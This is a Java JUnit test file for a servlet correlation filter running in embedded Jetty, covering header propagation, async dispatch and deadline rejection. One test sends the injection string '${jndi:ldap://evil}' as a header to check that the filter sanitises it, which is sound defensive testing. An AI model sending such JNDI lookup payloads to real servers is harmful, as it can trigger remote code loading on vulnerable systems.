package io.iworx.correlation.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import io.iworx.correlation.Correlation;
import jakarta.servlet.DispatcherType;
import jakarta.servlet.ServletException;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.EnumSet;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.eclipse.jetty.ee11.servlet.FilterHolder;
import org.eclipse.jetty.ee11.servlet.ServletContextHandler;
import org.eclipse.jetty.ee11.servlet.ServletHolder;
import org.eclipse.jetty.server.Server;
import org.eclipse.jetty.server.ServerConnector;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The filter in a real Jetty 12. */
class CorrelationFilterTest {
  private static final List<Correlation> SEEN = new CopyOnWriteArrayList<>();
  private static final Server SERVER = new Server();
  private static final ServerConnector CONNECTOR = new ServerConnector(SERVER);
  private static final HttpClient CLIENT = HttpClient.newHttpClient();

  @BeforeAll
  static void start() throws Exception {
    CONNECTOR.setHost("127.0.0.1");
    SERVER.addConnector(CONNECTOR);
    var context = new ServletContextHandler();
    var filter = new FilterHolder(CorrelationFilter.trustingHeaders());
    filter.setAsyncSupported(true);
    var servlet = new ServletHolder(new Servlet());
    servlet.setAsyncSupported(true);
    context.addFilter(
        filter, "/filtered/*", EnumSet.of(DispatcherType.REQUEST, DispatcherType.ASYNC));
    context.addServlet(servlet, "/*");
    SERVER.setHandler(context);
    SERVER.start();
  }

  @AfterAll
  static void stop() throws Exception {
    CLIENT.close();
    SERVER.stop();
  }

  @BeforeEach
  void forget() {
    SEEN.clear();
  }

  /** Remembers the context, on this thread or, below {@code /async}, on another one. */
  private static final class Servlet extends HttpServlet {
    @Override
    protected void doGet(HttpServletRequest request, HttpServletResponse response)
        throws ServletException {
      var path = request.getRequestURI();
      if (path.endsWith("/fails")) {
        throw new ServletException("as asked");
      }
      SEEN.add(CorrelationFilter.getOrCreate(request));
      SEEN.add(CorrelationFilter.getOrCreate(request));
      if (path.endsWith("/async") && request.getDispatcherType() == DispatcherType.REQUEST) {
        var async = request.startAsync();
        Thread.ofVirtual()
            .start(
                () -> {
                  SEEN.add(CorrelationFilter.getOrCreate(request));
                  async.dispatch();
                });
      }
    }
  }

  private static HttpResponse<String> get(String path, String... headers)
      throws IOException, InterruptedException {
    var request =
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + CONNECTOR.getLocalPort() + path));
    for (int i = 0; i < headers.length; i += 2) {
      request.header(headers[i], headers[i + 1]);
    }
    return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }

  private static String answered(HttpResponse<?> response) {
    return response.headers().firstValue("x-correlation-id").orElse("none");
  }

  @Test
  void putsTheContextOfTheRequestInScopeAndAnswersWithItsId() throws Exception {
    var response =
        get(
            "/filtered/x",
            "X-Correlation-Id",
            "c-1",
            "x-causation-id",
            "hop-1",
            "x-calling-service",
            "safety-service",
            "x-user-id",
            "u-1",
            "x-organization-id",
            "org-1",
            "x-request-deadline-ms",
            "5000");

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(answered(response)).isEqualTo("c-1");
    var seen = SEEN.getFirst();
    assertThat(seen.correlationId()).isEqualTo("c-1");
    assertThat(seen.causationId()).isEqualTo("hop-1");
    assertThat(seen.callingService()).isEqualTo("safety-service");
    assertThat(seen.identity().userId()).isEqualTo("u-1");
    assertThat(seen.identity().organizationId()).isEqualTo("org-1");
    assertThat(seen.deadline()).isNotNull();
    assertThat(Correlation.current()).isEmpty();
  }

  @Test
  void replacesAnIdThatCouldInject() throws Exception {
    var response = get("/filtered/x", "x-correlation-id", "${jndi:ldap://evil}");

    assertThat(answered(response)).isNotEqualTo("${jndi:ldap://evil}");
    assertThat(SEEN.getFirst().correlationId()).isEqualTo(answered(response));
  }

  @Test
  void answersWithTheIdEvenWhenTheServletFails() throws Exception {
    var response = get("/filtered/fails", "x-correlation-id", "c-2");

    assertThat(response.statusCode()).isEqualTo(500);
    assertThat(answered(response)).isEqualTo("c-2");
  }

  @Test
  void doesNotStartARequestWhoseDeadlineHasPassed() throws Exception {
    var response = get("/filtered/x", "x-correlation-id", "c-3", "x-request-deadline-ms", "0");

    assertThat(SEEN).isEmpty();
    assertThat(response.statusCode()).isEqualTo(504);
    assertThat(answered(response)).isEqualTo("c-3");
    assertThat(response.headers().firstValue("content-type").orElse(""))
        .startsWith("application/problem+json");
    assertThat(response.body())
        .isEqualTo(
            "{\"type\":\"about:blank\",\"title\":\"Gateway Timeout\",\"status\":504,"
                + "\"error\":\"Deadline passed\",\"message\":\"The caller's deadline had passed,"
                + " so the request was not started.\",\"correlationId\":\"c-3\"}");
  }

  @Test
  void anotherThreadAndAnotherDispatchSeeTheSameContext() throws Exception {
    var response = get("/filtered/async");

    assertThat(response.statusCode()).isEqualTo(200);
    assertThat(SEEN).hasSize(5);
    assertThat(SEEN).allMatch(seen -> seen.correlationId().equals(answered(response)));
  }

  @Test
  void getOrCreateWorksWithoutTheFilter() throws Exception {
    var response = get("/bare", "x-correlation-id", "c-4", "x-user-id", "u-4");

    assertThat(answered(response)).isEqualTo("none");
    assertThat(SEEN.getFirst().correlationId()).isEqualTo("c-4");
    assertThat(SEEN.getFirst().identity().userId()).isEqualTo("u-4");
  }

  @Test
  void getOrCreateGivesOneRequestOneFreshId() throws Exception {
    get("/bare");
    assertThat(SEEN).hasSize(2);
    assertThat(SEEN.getFirst()).isEqualTo(SEEN.getLast());
  }
}
